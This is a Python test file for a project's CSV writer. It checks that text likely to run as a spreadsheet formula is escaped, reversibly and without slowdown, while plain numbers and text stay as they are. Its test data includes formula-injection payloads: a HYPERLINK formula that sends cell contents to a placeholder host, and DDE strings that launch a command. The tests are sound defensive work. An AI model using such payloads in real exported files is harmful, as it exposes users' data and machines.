"""CSV that people open in spreadsheets: no text of a user or a model runs as a formula, and no text is lost."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from finetune.asking.file_rows import write
from finetune.core.disk import read_csv, write_csv
from finetune.core.formula_cells import begins_formula, marked, unmarked
from finetune.scoring.plot_tables import ROWS

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "+81-90-1234-5678",
    "- a list",
    "-",
    "-1.5+A1",
    "-1.5\n=1",
]
TEXTS = [
    "",
    "a=b",
    "1.5",
    "-1.5",
    "+3",
    "-1,234.50",
    "-.5",
    "+1e-05",
    "-12%",
    "2026-11-27",
    "'quoted'",
    "it's",
    '"x"',
    "…-",
    "1;-2.5;+3",
    "so:\n- a\n- b\n---\n-5\r\nend",
    "a, =b",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_marked(text: str) -> None:
    assert str(marked(text)).startswith("'")
    assert unmarked(str(marked(text))) == text
    assert unmarked("'" + text) == text  # as earlier versions wrote it


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("hello;=1+1;", "hello;'=1+1;"),
        ("hello\n=1+1", "hello\n'=1+1"),
        ("a;'=1", "a;''=1"),
        ("a; @SUM(1)", "a;' @SUM(1)"),
        ("a;-2+3|x", "a;'-2+3|x"),
        ("=1;=2", "'=1;'=2"),
    ],
)
def test_a_formula_within_a_text_is_marked_where_a_spreadsheet_divides_it(text: str, cell: str) -> None:
    assert marked(text) == cell
    assert unmarked(cell) == text


@pytest.mark.parametrize("text", TEXTS)
def test_numbers_and_other_texts_stay(text: str) -> None:
    assert marked(text) == unmarked(text) == text


@pytest.mark.parametrize("text", ["\n" * 200_000, "-1" + " " * 200_000 + "x", "'" * 200_000 + "x", "a\n-1 " * 50_000])
def test_a_long_text_takes_no_long_time(text: str) -> None:
    """An expression that tries all divisions of it would take hours."""
    assert unmarked(str(marked(text))) == text


def test_a_number_is_no_text() -> None:
    assert [marked(value) for value in (-1.5, float("-inf"), None, True)] == [-1.5, float("-inf"), None, True]


@given(st.text(alphabet=st.sampled_from("'\"=+-@＝ \t\r\n1.5ab%,;")))
def test_every_text_comes_back(text: str) -> None:
    assert unmarked(str(marked(text))) == text
    assert not begins_formula(text) or str(marked(text)).startswith("'")


def test_our_tables_are_safe_in_a_spreadsheet_and_read_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / ROWS.name
    rows = [{"asked": text, "tuned": text, "n": "-1.5"} for text in [*FORMULAS, *TEXTS]]
    write_csv(path, ["asked", "tuned", "n"], rows)
    with open(path, encoding="utf-8", newline="") as table:
        cells = [cell for row in csv.reader(table) for cell in row]
    assert [cell for cell in cells if begins_formula(cell) and not cell.startswith("'")] == []
    assert cells.count("-1.5") == len(rows) + 2
    assert read_csv(path) == rows


def test_predict_writes_texts_as_they_are_and_marks_formulas_only_when_asked(tmp_path: Path) -> None:
    rows = [{"=id": "1", "answer": text} for text in FORMULAS]
    path = tmp_path / "new.predicted.csv"
    assert write(path, rows) == len(FORMULAS) + 1
    with open(path, encoding="utf-8", newline="") as table:
        assert [row["answer"] for row in csv.DictReader(table)] == FORMULAS
    assert write(path, rows, spreadsheet=True) == len(FORMULAS) + 1
    with open(path, encoding="utf-8", newline="") as table:
        assert list(csv.DictReader(table)) == [{"'=id": "1", "answer": marked(text)} for text in FORMULAS]
    assert write(tmp_path / "new.predicted.jsonl", rows) == 0
